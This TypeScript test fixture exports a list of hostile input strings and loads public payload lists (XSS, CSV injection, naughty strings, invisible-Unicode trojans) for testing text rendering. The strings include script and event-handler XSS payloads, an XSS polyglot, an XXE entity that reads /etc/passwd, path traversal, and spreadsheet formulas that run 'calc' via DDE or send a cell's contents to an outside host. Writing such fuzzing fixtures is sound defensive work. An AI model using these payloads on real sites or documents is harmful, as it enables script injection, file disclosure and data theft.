import { existsSync, readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';

/** Texts of people who mean harm, or whose keyboards do: one or more of each kind that the public lists hold. */
export const hostileTexts = [
  `<script>window.broken = 'script'; alert(1)</script>`,
  `<img src=x onerror="window.broken = 'image'; console.log(1)">`,
  `'"><svg/onload=alert(1)>`,
  `</p></blockquote></title></textarea></style></script><style>* { display: none }</style>`,
  `" onmouseover="alert(1)" autofocus onfocus="alert(1)`,
  `javascript:alert(1)`,
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=alert() )//</stYle/</titLe/--!>\\x3csVg/oNloAd=alert()//>`,
  `<!-- --> <!--[if gte IE 4]><script>alert(1);</script><![endif]-->`,
  `]]> <![CDATA[ <?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;`,
  `&lt;b&gt; &amp; &#60;i&#62; &nbsp; stays as typed`,
  `{Astro.request.url} {{ 7 * 7 }} \${7 * 7} <% 7 %> {author} {n} $& $1 $\` %s %d`,
  `# no heading **no bold** [no link](javascript:alert(1)) ![](http://elsewhere.example/x.png)`,
  `=HYPERLINK("http://elsewhere.example/"&A1,"Error: please click")`,
  `=cmd|' /C calc'!A0`,
  `http://elsewhere.example/ //elsewhere.example www.elsewhere.example`,
  `left \u202eright to left\u202c and back, \u2066isolated\u2069, \u200fmark`,
  `is\u200bAdmin and i\u2060s\ufeffAdmin`,
  `Z\u0361\u0349a\u0353l\u0327g\u034fo ${'\u0301'.repeat(40)}`,
  `\u0e14${'\u0e49\u0e47'.repeat(60)}`,
  `${'unbroken'.repeat(40)}`,
  `\u0645\u0631\u062d\u0628\u064b\u0627 (1 < 2) \u4e2d\u6587 \u{1f469}\u200d\u{1f469}\u200d\u{1f467} \u{1f1e9}\u{1f1ea}`,
  `"; }; window.broken = 'json'; //\u2028\u2029</template>`,
  `bell\u0007 escape\u001b[31m red\u001b[0m high\u0085 \u{e0041} half\ud800`,
  `"So quiet." they said, 'twice', back\\slash, 100 %`,
  `${'A long answer goes on, <b>and on</b>, and & on. '.repeat(14).trim()}`,
  ...['../../../etc/passwd', '..', '%2e%2e%2f', 'a/b', 'a\\b', 'index', '2', 'CON', 'x', '\u{1f355}'],
  ...['__proto__', 'constructor', 'null', 'undefined', 'NaN', `${'t'.repeat(300)}`],
];

const folder = fileURLToPath(new URL('../../../shared/data/hostile/', import.meta.url));

/** The public lists, where they are at hand; else nothing. Addresses of machines would be cut out of what is published, as other tests hold. */
export function publicHostileTexts(): string[] {
  if (!existsSync(folder)) return [];
  const read = (name: string): string => readFileSync(`${folder}${name}`, 'utf8');
  const lines = ['patt-RSNAKE_XSS.txt', 'patt-XSS_Polyglots.txt', 'payloadbox-csv-injection.txt'];
  return [
    ...(JSON.parse(read('blns.json')) as string[]),
    ...lines.flatMap((name) => read(name).split('\n')),
    read('trojan-invisible.js.txt'),
  ].map((text) => text.replaceAll('10.0.0.1', 'elsewhere'));
}
